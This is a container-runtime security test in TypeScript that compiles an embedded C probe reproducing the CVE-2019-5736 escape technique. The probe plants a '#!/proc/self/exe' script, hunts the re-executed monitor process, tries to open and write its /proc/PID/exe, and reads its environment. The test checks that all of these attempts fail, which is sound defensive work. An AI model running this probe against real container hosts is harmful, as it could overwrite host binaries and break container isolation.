/**
 * The host's monitor binary is out of reach from inside a container (the
 * CVE-2019-5736 class). The container's root plants `/evil` with the line
 * `#!/proc/self/exe` and waits for the host to `exec` it: the exec helper's
 * child then re-executes whatever binary it runs itself, inside the
 * container. A hunter in the container opens `/proc/PID/exe` of every new
 * process, for reading and for writing, writes through what it got, and
 * reads the process's environment. It must only ever find a sealed copy:
 * never the host's file (same device and inode), never a write that
 * succeeds, never the exec plan in an environment; and the host's binary
 * keeps its hash.
 */
import { IS_ROOT, skipUnless } from "../helpers/requires.ts";
import { assert, assertEquals } from "../helpers/assert.ts";
import { ok, withBusyboxStore } from "../helpers/busybox_store.ts";
import { monitorPath } from "../../src/runtime/monitor_client.ts";
import { until } from "../helpers/wait.ts";

const opts = { sanitizeResources: false, sanitizeOps: false, ignore: skipUnless(IS_ROOT) };

const probe = `
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* What one attempt gave: "ok" or the errno's number. */
static const char *res(int r, char *buf) {
  if (r >= 0) return "ok";
  snprintf(buf, 16, "%d", errno);
  return buf;
}

/* Everything the container can try on process pid, once; one line to out. */
static void attack(FILE *out, int pid, dev_t dev, ino_t ino) {
  char p[64], link[4096], env[65536], b1[16], b2[16], b3[16];
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t n = readlink(p, link, sizeof link - 1);
  link[n < 0 ? 0 : n] = 0;
  int wr = open(p, O_WRONLY | O_CLOEXEC);
  const char *wr_res = res(wr, b1);
  if (wr >= 0) close(wr);
  int fd = open(p, O_RDONLY | O_CLOEXEC), same = 0;
  const char *fd_res = res(fd, b2), *through = "none";
  if (fd >= 0) {
    struct stat st;
    same = fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w >= 0) { /* four bytes past the end: a sealed copy refuses to grow */
      through = pwrite(w, "PWN!", 4, st.st_size) == 4 ? "wrote" : res(-1, b3);
      close(w);
    } else {
      through = res(-1, b3);
    }
    close(fd);
  }
  snprintf(p, sizeof p, "/proc/%d/environ", pid);
  int e = open(p, O_RDONLY | O_CLOEXEC);
  const char *env_res = "denied";
  if (e >= 0) {
    ssize_t got = read(e, env, sizeof env - 1);
    if (got > 0) {
      for (ssize_t i = 0; i < got; i++) if (!env[i]) env[i] = '\\n';
      env[got] = 0;
      env_res = strstr(env, "SKIFF_EXEC_PLAN") ? "plan" : "read";
    } else if (got < 0) {
      env_res = "denied";
    } else {
      env_res = "empty";
    }
    close(e);
  }
  fprintf(out, "pid %d exe=%s open=%s same=%d write-open=%s write-through=%s environ=%s\\n", pid,
          link, fd_res, same, wr_res, through, env_res);
  fflush(out);
}

/* hunt DEV INO OUT STOP: attacks each new process of the container until STOP exists. */
static int hunt(dev_t dev, ino_t ino, const char *outp, const char *stop) {
  FILE *out = fopen(outp, "w");
  if (!out) return 1;
  fprintf(out, "hunting\\n");
  fflush(out);
  int me = getpid(), hi = me, done[4096] = {0};
  for (unsigned long round = 0;; round++) {
    for (int c = hi - 2; c <= hi + 6; c++) {
      if (c <= me || c >= 4096 || done[c] == 2) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", c);
      int fd = open(p, O_PATH | O_NOFOLLOW | O_CLOEXEC);
      if (fd < 0) continue;
      close(fd);
      if (c > hi) hi = c;
      char link[64];
      ssize_t n = readlink(p, link, sizeof link - 1);
      link[n < 0 ? 0 : n] = 0;
      if (n < 0 && done[c] == 0) { /* not dumpable yet: the helper before its exec */
        attack(out, c, dev, ino);
        done[c] = 1;
      } else if (n >= 0 && strstr(link, "skiff-monitor")) { /* running the monitor's code */
        attack(out, c, dev, ino);
        done[c] = 2;
      }
    }
    if ((round & 255) == 0 && access(stop, F_OK) == 0) break;
  }
  fprintf(out, "stopped\\n");
  fclose(out);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 6 && !strcmp(argv[1], "hunt"))
    return hunt(strtoull(argv[2], 0, 10), strtoull(argv[3], 0, 10), argv[4], argv[5]);
  if (argc == 3 && !strcmp(argv[1], "script")) {
    int fd = open(argv[2], O_CREAT | O_WRONLY | O_TRUNC, 0755);
    return fd < 0 || write(fd, "#!/proc/self/exe\\n", 17) != 17;
  }
  return 2;
}
`;

async function sha256(path: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", await Deno.readFile(path));
  return Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
}

Deno.test("a container cannot reach or write the host's monitor binary", opts, async () => {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(`${dir}/probe.c`, probe);
    const cc = await new Deno.Command("gcc", {
      args: ["-static", "-O2", "-o", `${dir}/probe`, `${dir}/probe.c`],
    }).output();
    assertEquals(cc.success, true, new TextDecoder().decode(cc.stderr));
    const bin = monitorPath();
    const before = await sha256(bin);
    const st = await Deno.stat(bin);
    await withBusyboxStore(async (_store, sk) => {
      const p = `${dir}:/p:ro`;
      await ok(sk, ["run", "-d", "--name", "box", "-v", p, "busybox", "sleep", "600"]);
      await ok(sk, ["exec", "box", "/p/probe", "script", "/evil"]);
      await ok(sk, [
        "exec",
        "-d",
        "box",
        "/p/probe",
        "hunt",
        String(st.dev),
        String(st.ino),
        "/tmp/hunt",
        "/tmp/stop",
      ]);
      await until(
        "the hunter to start",
        async () => (await sk(["exec", "box", "cat", "/tmp/hunt"])).code === 0,
      );
      const caught = (hunt: string) =>
        hunt.split("\n").some((l) => l.includes("skiff-monitor") && l.includes("open=ok"));
      // rounds of ten until the hunter has caught one (a loaded machine may need more)
      for (let round = 0; round < 6; round++) {
        for (let i = 0; i < 10; i++) {
          // the re-executed binary answers "/proc/self/exe /evil" with its usage
          const r = await sk(["exec", "box", "/evil"]);
          assert(r.code !== 0, r.stdout);
        }
        if (caught(await ok(sk, ["exec", "box", "cat", "/tmp/hunt"]))) break;
      }
      await ok(sk, ["exec", "box", "touch", "/tmp/stop"]);
      let hunt = "";
      await until("the hunter to stop and write its report", async () => {
        hunt = await ok(sk, ["exec", "box", "cat", "/tmp/hunt"]);
        return hunt.endsWith("stopped\n");
      });
      const lines = hunt.split("\n").filter((l) => l.startsWith("pid "));
      const report = lines.join("\n");
      console.log(report.split("\n").slice(0, 8).join("\n"));
      for (const line of lines) {
        assert(!line.includes("same=1"), `the host's binary was opened from inside:\n${line}`);
        assert(!line.includes("write-open=ok"), `a /proc/PID/exe opened for writing:\n${line}`);
        assert(!line.includes("write-through=wrote"), `the binary was written:\n${line}`);
        assert(!line.includes("environ=plan"), `the exec plan was read:\n${line}`);
      }
      // the hunt is real: it caught the re-executed monitor and held its (sealed) copy
      assert(caught(report), `the hunter caught no re-executed monitor:\n${report}`);
    });
    assertEquals(await sha256(bin), before, "the host's monitor binary changed");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
